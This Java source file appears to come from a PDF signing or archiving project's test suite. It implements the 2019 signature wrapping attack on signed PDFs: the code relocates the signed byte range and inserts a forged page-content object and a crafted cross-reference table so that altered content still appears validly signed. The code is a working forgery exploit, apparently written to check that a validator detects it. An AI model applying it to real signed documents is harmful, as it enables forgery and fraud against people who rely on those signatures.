package fr.paraphe.documents.archive.attacks;

import java.io.IOException;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSObject;
import org.apache.pdfbox.pdmodel.PDDocument;

/**
 * Signature wrapping attack (SWA, 2019): the second signed part is moved to the end of the file, and a document of the attacker's is put
 * where it was; a second byte range, in the hole, still leads to both signed parts.
 */
final class SignatureWrapping {
    private static final String TOLD =
            "La signature a été déplacée hors de la zone qu'elle protège\u00a0: du contenu a été glissé au milieu du fichier.";

    private SignatureWrapping() {}

    static List<Attack> of(Victim victim) throws IOException {
        byte[] wrapped = wrap(victim.plain(), victim.once());
        return List.of(new Attack("SWA", wrapped, TOLD), new Attack("SWA, then signed by an honest person", victim.coverUp(wrapped), TOLD));
    }

    private static byte[] wrap(byte[] plain, byte[] once) throws IOException {
        String text = Pdfs.text(once);
        int hole = text.lastIndexOf("/Contents <") + "/Contents ".length();
        int second = text.indexOf('>', hole) + 1;
        // The moved part says that the table stands at its old place: there the attacker writes one of his own.
        int place = Pdfs.startxref(once);
        String cms = text.substring(hole, second - 1).replaceFirst("(00)+$", "");
        String ranges = cms + ">\n/ByteRange [0 " + hole + " %010d " + (once.length - second) + "]\n>>\nendobj\n";
        int forgedAt = hole + ranges.formatted(0).length();
        try (PDDocument document = Loader.loadPDF(once)) {
            long shown = ((COSObject) document.getPage(0).getCOSObject().getItem(COSName.CONTENTS)).getKey().getNumber();
            String drawing = "0 0 1 rg 60 500 300 200 re f";
            String forged = shown + " 0 obj\n<< /Length " + drawing.length() + " >>\nstream\n" + drawing + "\nendstream\nendobj\n";
            Map<Long, Integer> places = new TreeMap<>();
            document.getDocument().getXrefTable().forEach((key, at) -> {
                if (at >= plain.length) {
                    places.put(key.getNumber(), at.intValue());
                }
            });
            places.put(shown, forgedAt);
            COSObject root = (COSObject) document.getDocument().getTrailer().getItem(COSName.ROOT);
            String trailer = "trailer\n<< /Size 2000 /Root " + root.getKey().getNumber() + " 0 R /Prev " + Pdfs.startxref(plain)
                    + " >>\nstartxref\n" + place + "\n%%EOF\n";
            int moved = place + table(places, second, 0).length() + trailer.length();
            String padding = " ".repeat(place - forgedAt - forged.length());
            return Pdfs.bytes(text.substring(0, hole) + ranges.formatted(moved) + forged + padding + table(places, second, moved - second)
                    + trailer + text.substring(second));
        }
    }

    private static String table(Map<Long, Integer> places, int second, int shift) {
        var table = new StringBuilder("xref\n");
        places.forEach((number, at) -> table.append(number).append(" 1\n")
                .append("%010d 00000 n\r\n".formatted(at >= second ? at + shift : at)));
        return table.toString();
    }
}
